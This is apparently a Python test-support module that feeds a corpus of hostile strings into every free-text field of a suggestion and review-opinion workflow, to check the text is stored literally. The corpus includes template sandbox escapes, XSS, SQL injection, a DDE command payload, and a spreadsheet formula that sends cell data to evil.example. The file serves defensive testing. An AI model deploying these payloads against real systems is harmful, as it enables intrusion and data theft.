"""Hostile inputs, and walks of both lifecycles that put a caller's text into every free-text field.

A walk asks ``text(path)`` for each free-text value it sends, where *path* names the field as
``KIND.TRIGGER.FIELD`` (``suggestion.reply.promises.what``; ``submit`` for the submission), and records
every path it used, so that a test can check that it covered each text field the definitions declare
(:func:`text_fields`). Units and deputies are parties: their names come from ``text`` too
(``party.unit.lead``, ``party.deputy.lead``), so unit and deputy names are hostile as well.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from workflow import Actor, Engine
from workflow.fields import DEFAULT_MAX_LENGTH, FieldSpec

#: (name, text): each is put into every free-text field and must come out literally, never executed.
CORPUS: list[tuple[str, str]] = [
    ("jinja-expression", "{{ 7*7 }} {{ 7*191 }}"),
    ("jinja-statement", "{% for x in range(3) %}{{ x }}{% endfor %}{% raw %}r{% endraw %}{# c #}"),
    ("jinja-sandbox-escape", "{{ ''.__class__.__mro__[1].__subclasses__() }}{{ cycler.__init__.__globals__.os }}"),
    ("jinja-globals", "{{ config }}{{ self }}{{ request }}{{ lipsum.__globals__ }}"),
    ("format-strings", "{0.__class__} %s %(x)s ${x} #{x} {{}}"),
    ("script", "<script>alert(1)</script>"),
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("svg-onload", '"><svg onload=alert(1)>'),
    ("attribute-break", "' onmouseover='alert(1)' x=\"y"),
    ("closing-tags", "</title></style></textarea></td></tr></table><!-- --><![CDATA[x]]>"),
    ("entities", "&lt;script&gt; &amp; &#60;b&#62; &nbsp;"),
    ("sql", "'; DROP TABLE duban_item; --"),
    ("sql-union", '" OR 1=1 UNION SELECT hash FROM duban_audit --'),
    ("formula-equals", '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'),
    ("formula-dde", "=cmd|' /C calc'!A0"),
    ("formula-plus", "+1+1"),
    ("formula-minus", "-2+3"),
    ("formula-at", "@SUM(A1:A9)"),
    ("formula-tab", "\t=1+1"),
    ("formula-cr", "\r=1+1"),
    ("control-characters", "响铃\x07 \x1b[31m红色\x1b[0m 退格\x08 删除\x7f 换页\x0c"),
    ("bidi-override", "\u202egpj.exe\u202c 与 \u2066隔离\u2069 \u200f"),
    ("zero-width", "零\u200b宽\u200c连\u200d字\ufeff符\u2060"),
    ("line-breaks", "第一行\n第二行\r\n第三行\r第四行\u2028第五行\u2029第六行\x85第七行"),
    ("markdown", "| a | b |\n# 标题\n[链接](javascript:alert(1)) ![x](http://evil.example/x.png) **粗** `c` <b>"),
    ("astral-and-tags", "😀𠀀𝕏 \U000e0041\U000e0042 \ue000"),
    ("very-long", "长" * 100_000),  # cut to each field's limit: the longest text each field accepts
]
#: (name, text, what the engine must say): refused with a ValidationError naming the field.
REFUSED: list[tuple[str, str, str]] = [
    ("nul", "前\x00后", "NUL"),
    ("over-long", "长" * 100_001, "characters long"),
]
BENIGN = "普通文本"
#: Fields whose value must name a registered party: they carry the (hostile) names of the walk's units
#: and deputy rather than text of their own.
REFERENCES = {
    f"suggestion.{trigger}.{name}"
    for trigger in ("assign", "reassign")
    for name in ("lead_unit", "co_units", "split_units")
} | {"suggestion.submit.lead_deputy", "review_opinion.assign.lead_unit", "review_opinion.assign.co_units"}
#: Party names have no limit of their own, but a per-unit deadline's subject column holds "unit:NAME" in
#: 64 characters: a longer unit name fails its assignment on PostgreSQL (see test_party_names_are_checked).
LONG_UNITS = 59


def text_fields(engine: Engine) -> set[str]:
    """Every free-text field of every loaded lifecycle: ``KIND.TRIGGER.FIELD`` for string, text and
    list-of-names fields, nested ``records`` fields included."""
    found: set[str] = set()

    def add(prefix: str, specs: tuple[FieldSpec, ...]) -> None:
        for spec in specs:
            if spec.type in ("string", "text", "list"):
                found.add(f"{prefix}.{spec.name}")
            elif spec.type == "records":
                add(f"{prefix}.{spec.name}", spec.fields)

    for kind in engine.kinds:
        defn = engine.definition(kind)
        add(f"{kind}.submit", defn.submit.fields)
        for t in defn.transitions:
            add(f"{kind}.{t.trigger}", t.fields)
    return found


def spec_of(engine: Engine, path: str) -> FieldSpec:
    """The field ``KIND.TRIGGER.FIELD[.NESTED]`` (the first transition of that trigger that has it)."""
    kind, trigger, *names = path.split(".")
    defn = engine.definition(kind)
    specs = (
        defn.submit.fields
        if trigger == "submit"
        else [f for t in defn.transitions if t.trigger == trigger for f in t.fields]
    )
    spec = next(s for s in specs if s.name == names[0])
    for name in names[1:]:
        spec = next(s for s in spec.fields if s.name == name)
    return spec


def limit_of(engine: Engine, path: str) -> int:
    """The longest value *path* accepts (a list's entries are strings)."""
    spec = spec_of(engine, path)
    return spec.max_length or DEFAULT_MAX_LENGTH["text" if spec.type == "text" else "string"]


@dataclass
class Walk:
    """One walk's items and the text paths it filled."""

    items: dict[str, int] = field(default_factory=dict)
    used: set[str] = field(default_factory=set)


Fire = Callable[[Engine, int, str, Actor, dict[str, Any]], Any]


def plain_fire(eng: Engine, item_id: int, trigger: str, actor: Actor, data: dict[str, Any]) -> Any:
    return eng.fire(item_id, trigger, actor=actor, **data)


def walk(
    eng: Engine, text: Callable[[str], str], *, year: int = 2026, fire: Fire = plain_fire, contacts: bool = True
) -> Walk:
    """Both lifecycles end to end, every free-text field filled by *text*: a suggestion through reassignment,
    extension, reply with a promise, re-handling, closing and reopening; a split suggestion; a rejected and
    a withdrawn one; a voided one; a review opinion through a failed vote, second review, accountability and
    reopening, its vote corrected; a voided review opinion. The main suggestion's rating, contact and promise
    are corrected along the way."""
    w = Walk()

    def t(path: str) -> str:
        w.used.add(path)
        return text(path)

    def party(role: str, path: str, **extra: Any) -> str:
        name = t(path)[:LONG_UNITS].strip()
        eng.add_party(role, name, **extra)
        return name

    def mail(n: str) -> dict[str, Any]:
        if not contacts:
            return {}
        roles = ("handler", "department_head", "principal_leader", "case_leader")
        return {"contacts": {r: f"{r}{n}@unit.example" for r in roles}}

    lead = party("unit", "party.unit.lead", handler=t("party.unit.handler"), principal_leader="局长", **mail("1"))
    co = party("unit", "party.unit.co", handler="协办人", department_head="处长", **mail("2"))
    deputy = party("deputy", "party.deputy.lead", contacts={"address": "deputy@rd.example"} if contacts else {})
    LEAD, CO, DEPUTY = Actor("unit", lead), Actor("unit", co), Actor("deputy", deputy)
    OFFICE, LEADER, COMMITTEE = Actor("office"), Actor("leader"), Actor("committee")
    at = dt.datetime(year, 3, 20, 9, 0, tzinfo=dt.UTC)

    def go(item: int, trigger: str, actor: Actor = OFFICE, **data: Any) -> Any:
        return fire(eng, item, trigger, actor, data)

    def submit(kind: str, **data: Any) -> int:
        return eng.submit(kind, at=at, **data).id

    s = "suggestion"
    # The main suggestion, through every step that takes text.
    a = w.items["suggestion"] = submit(
        s,
        title=t(f"{s}.submit.title"),
        body=t(f"{s}.submit.body"),
        origin="session",
        session=t(f"{s}.submit.session"),
        proposers=[deputy, t(f"{s}.submit.proposers")],
        lead_deputy=deputy,
        suggested_units=[t(f"{s}.submit.suggested_units")],
        number=t(f"{s}.submit.number"),
    )
    go(a, "register", number=t(f"{s}.register.number"))
    go(a, "assign", lead_unit=lead, co_units=[co])
    go(a, "request_reassignment", LEAD, reason=t(f"{s}.request_reassignment.reason"))
    go(a, "refuse_reassignment", reason=t(f"{s}.refuse_reassignment.reason"))
    go(a, "request_reassignment", LEAD, reason=t(f"{s}.request_reassignment.reason"))
    go(a, "reassign", lead_unit=lead, co_units=[co])
    go(a, "accept", CO)
    go(a, "accept", LEAD)
    go(a, "record_contact", LEAD, stage="before", method="visit", note=t(f"{s}.record_contact.note"))
    go(a, "submit_co_opinion", CO, opinion=t(f"{s}.submit_co_opinion.opinion"))
    go(
        a,
        "designate_key",
        LEADER,
        supervising_leader=t(f"{s}.designate_key.supervising_leader"),
        case_leader=t(f"{s}.designate_key.case_leader"),
    )
    go(a, "request_extension", LEAD, reason=t(f"{s}.request_extension.reason"), period="1 month")
    go(a, "refuse_extension", reason=t(f"{s}.refuse_extension.reason"))
    go(a, "request_extension", LEAD, reason=t(f"{s}.request_extension.reason"), period="1 month")
    go(a, "approve_extension", period="1 month", note=t(f"{s}.approve_extension.note"))
    promise = {"what": t(f"{s}.reply.promises.what"), "by": f"{year + 1}-12-31"}
    reply = {"text": t(f"{s}.reply.text"), "signer": t(f"{s}.reply.signer"), "promises": [promise]}
    go(a, "reply", LEAD, category="B", **reply)
    go(a, "evaluate", DEPUTY, result="unsatisfied", comment=t(f"{s}.evaluate.comment"))
    go(a, "reassign", lead_unit=lead, co_units=[co])
    go(a, "submit_co_opinion", CO, opinion=t(f"{s}.submit_co_opinion.opinion"))
    go(a, "reply", LEAD, category="B", **reply)
    go(a, "evaluate", DEPUTY, result="satisfied", comment=t(f"{s}.evaluate.comment"))
    go(a, "close")
    go(a, "correct_evaluation", attitude="basically_satisfied", reason=t(f"{s}.correct_evaluation.reason"))
    promise_id = eng.get(a).promises[0]["id"]
    go(a, "verify_commitment", promise=promise_id, outcome="broken", note=t(f"{s}.verify_commitment.note"))
    go(a, "reopen", LEADER, reason=t(f"{s}.reopen.reason"))
    contact_id = eng.get(a).contacts[0]["id"]
    go(
        a,
        "correct_contact",
        contact=contact_id,
        note=t(f"{s}.correct_contact.note"),
        reason=t(f"{s}.correct_contact.reason"),
    )
    corrected = {"what": t(f"{s}.correct_promise.what"), "reason": t(f"{s}.correct_promise.reason")}
    go(a, "correct_promise", promise=promise_id, **corrected)
    # Split among units; rejected; withdrawn.
    b = w.items["split"] = submit(s, title=t(f"{s}.submit.title"), origin="between_sessions", proposers=[deputy])
    go(b, "register")
    go(b, "assign", split_units=[lead, co])
    go(b, "request_reassignment", LEAD, reason=t(f"{s}.request_reassignment.reason"))
    go(b, "reassign", split_units=[lead, co])
    c = w.items["rejected"] = submit(s, title=t(f"{s}.submit.title"), origin="session", proposers=[deputy])
    go(c, "reject", reason="no_substance", note=t(f"{s}.reject.note"))
    d = w.items["withdrawn"] = submit(s, title=t(f"{s}.submit.title"), origin="session", proposers=[deputy])
    go(d, "withdraw", reason=t(f"{s}.withdraw.reason"))
    v = w.items["voided"] = submit(s, title=t(f"{s}.submit.title"), origin="session", proposers=[deputy])
    go(v, "void", reason=t(f"{s}.void.reason"))

    r = "review_opinion"
    e = w.items["review_opinion"] = submit(
        r,
        title=t(f"{r}.submit.title"),
        body=t(f"{r}.submit.body"),
        basis="inspection",
        committee=t(f"{r}.submit.committee"),
        meeting=t(f"{r}.submit.meeting"),
    )
    go(e, "approve", LEADER)
    go(
        e,
        "designate_key",
        LEADER,
        supervising_leader=t(f"{r}.designate_key.supervising_leader"),
        case_leader=t(f"{r}.designate_key.case_leader"),
    )
    go(e, "assign", lead_unit=lead, co_units=[co], problems=[{"title": t(f"{r}.assign.problems.title")}])
    measure = {
        "problem": 1,
        "measure": t(f"{r}.submit_rectification_plan.measures.measure"),
        "owner": t(f"{r}.submit_rectification_plan.measures.owner"),
        "due": f"{year + 1}-10-31",
    }
    go(e, "submit_rectification_plan", LEAD, measures=[measure])
    go(e, "update_problem", LEAD, problem=1, status="in_progress", note=t(f"{r}.update_problem.note"))
    report = {
        "text": t(f"{r}.submit_report.text"),
        "consulted_committee": t(f"{r}.submit_report.consulted_committee"),
        "consulted_on": f"{year}-05-01",
        "signer": t(f"{r}.submit_report.signer"),
    }
    go(e, "submit_report", LEAD, **report)
    go(e, "deliberate", COMMITTEE, meeting=t(f"{r}.deliberate.meeting"), notes=t(f"{r}.deliberate.notes"))
    go(e, "vote", COMMITTEE, satisfied=1, basically_satisfied=1, unsatisfied=5)
    go(e, "order_second_review", LEADER, reason=t(f"{r}.order_second_review.reason"))
    go(e, "submit_report", LEAD, **report)
    go(e, "deliberate", COMMITTEE, meeting=t(f"{r}.deliberate.meeting"), notes=t(f"{r}.deliberate.notes"))
    go(e, "vote", COMMITTEE, satisfied=1, basically_satisfied=0, unsatisfied=6)
    go(
        e,
        "refer_accountability",
        LEADER,
        reason=t(f"{r}.refer_accountability.reason"),
        referred_to=t(f"{r}.refer_accountability.referred_to"),
    )
    vote = eng.get(e).votes[-1]  # 1 of 7 satisfied, corrected to 2: still unsatisfactory
    go(e, "correct_vote", vote=vote["id"], satisfied=2, reason=t(f"{r}.correct_vote.reason"))
    go(e, "close_problem", problem=1, note=t(f"{r}.close_problem.note"))
    go(e, "close")
    go(e, "reopen", LEADER, reason=t(f"{r}.reopen.reason"))
    g = w.items["voided_opinion"] = submit(r, title=t(f"{r}.submit.title"), basis="inspection")
    go(g, "void", reason=t(f"{r}.void.reason"))
    return w
